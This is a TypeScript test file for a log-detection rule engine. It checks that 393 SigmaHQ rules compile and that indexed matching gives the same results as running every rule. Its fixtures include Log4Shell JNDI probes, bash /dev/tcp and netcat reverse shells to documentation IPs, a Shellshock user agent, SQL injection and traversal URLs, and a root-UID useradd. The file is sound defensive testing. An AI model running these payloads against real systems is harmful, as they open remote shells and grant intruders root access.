// The SigmaHQ rules in ../shared/datasets/sigma (393 Linux, webserver and proxy rules, DRL 1.1) must all load:
// compiled, or rejected only for a named feature that cannot apply here. Skipped where the folder is absent.
import { strict as assert } from 'node:assert';
import { existsSync } from 'node:fs';
import { resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { test } from 'node:test';
import { RuleEngine } from './engine.js';
import { makeEvent } from './testing.js';

const root = process.env.VIGIL_DATASETS ?? resolve(fileURLToPath(new URL('../../../..', import.meta.url)), 'shared/datasets');
const sigma = resolve(root, 'sigma');

test('every SigmaHQ rule of the data set compiles', { skip: existsSync(sigma) ? false : `no SigmaHQ rules at ${sigma}` }, async () => {
  const engine = await RuleEngine.load({ dirs: [sigma], watch: false });
  const report = engine.report();
  assert.equal(report.files, 393);
  assert.deepEqual(report.rejected.map((p) => `${p.file}:${p.line} ${p.message}`), []);
  assert.equal(report.compiled, 393);
  // They run: a Log4Shell probe in a user agent and a reverse shell in a sudo command are found.
  const out = engine.process([
    makeEvent({ event: { dataset: 'nginx.access' }, url: { original: '/' }, user_agent: { original: '${jndi:ldap://203.0.113.9/a}' }, http: { request: { method: 'GET' }, response: { status_code: 200 } } }),
    makeEvent({
      event: { dataset: 'sudo', category: ['process'], type: ['start'] },
      message: 'alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
      process: { command_line: '/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' },
    }),
  ]);
  const titles = out.map((d) => d.source.title);
  assert.ok(titles.some((t) => /log4j|jndi/i.test(t)), titles.join('; '));
  assert.ok(titles.some((t) => /reverse shell|dev\/tcp/i.test(t)), titles.join('; '));
  for (const d of out) assert.ok(d.source.author && d.source.author.length > 0, 'DRL: the author is shown');
});

test('indexing rules by their necessary literals gives the same matches as running every rule', { skip: existsSync(sigma) ? false : `no SigmaHQ rules at ${sigma}` }, async () => {
  const engine = await RuleEngine.load({ dirs: [sigma], watch: false });
  const set = (engine as unknown as { set: import('./ruleset.js').RuleSet }).set;
  const urls = ['/', '/index.php?id=1 union select 1,2', '/cgi-bin/../../etc/passwd', '/wp-admin/admin-ajax.php', '/${jndi:ldap://x/a}', '/a.jsp?cmd=whoami', '/owa/auth/x.js', '/.git/config', '/%2e%2e/%2e%2e/boot.ini', '/api/v1/health'];
  const agents = ['Mozilla/5.0', 'sqlmap/1.7', 'Nikto', 'python-requests/2.31', '() { :; }; /bin/bash -c id', 'curl/8.0'];
  const commands = ['ls -la', 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1', 'chmod +x /tmp/x && /tmp/x', 'base64 -d /tmp/p | sh', 'crontab -l', 'nc -e /bin/sh 1.2.3.4 80', 'useradd -o -u 0 evil'];
  let matched = 0;
  for (let i = 0; i < urls.length * agents.length; i++) {
    const events = [
      makeEvent({ event: { dataset: 'nginx.access' }, url: { original: urls[i % urls.length] }, user_agent: { original: agents[i % agents.length] }, http: { request: { method: i % 3 ? 'GET' : 'POST' }, response: { status_code: i % 4 ? 200 : 404 } } }),
      makeEvent({ event: { dataset: 'sudo', category: ['process'], type: ['start'] }, message: commands[i % commands.length], process: { command_line: commands[i % commands.length], executable: i % 2 ? '/usr/bin/bash' : '/usr/bin/nc' } }),
    ];
    for (const event of events) {
      const indexed = engine.process([event]).map((d) => d.source.id).sort();
      set.ctx.reset(event, 0);
      const all: string[] = [];
      const groups = [...(set.byDataset.get(event.event.dataset) ?? []), ...set.anyDataset];
      for (const g of groups) if (g.gate(set.ctx)) for (const r of g.rules) if (r.compiled!.match(set.ctx)) all.push(r.key);
      assert.deepEqual(indexed, all.sort(), JSON.stringify(event));
      matched += all.length;
    }
  }
  assert.ok(matched > 20, `only ${matched} matches`);
});
